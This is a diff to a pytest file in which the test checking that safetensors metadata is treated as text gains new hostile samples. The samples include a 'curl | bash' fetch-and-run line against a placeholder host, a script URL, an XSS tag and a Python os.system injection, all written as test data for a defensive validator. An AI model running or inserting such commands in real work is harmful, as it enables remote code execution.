@@ -70,7 +70,14 @@ def test_headers_that_are_no_json_are_no_verdict():
 
 @pytest.mark.parametrize(
     "metadata",
-    [{"x": 1}, ["x"], {"x": "<script>alert(1)</script>"}, {"x": "__import__('os').system('id')"}],
+    [
+        {"x": 1},
+        ["x"],
+        {"x": "curl -s http://x/y | bash"},
+        {"x": "weights at https://example.org/fetch.py?v=1"},
+        {"x": "<script>alert(1)</script>"},
+        {"x": "__import__('os').system('id')"},
+    ],
 )
 def test_metadata_is_text_and_no_code(metadata):
     assert "safetensors-metadata" in rules(safetensors({"__metadata__": metadata, **GOOD}, bytes(25)))
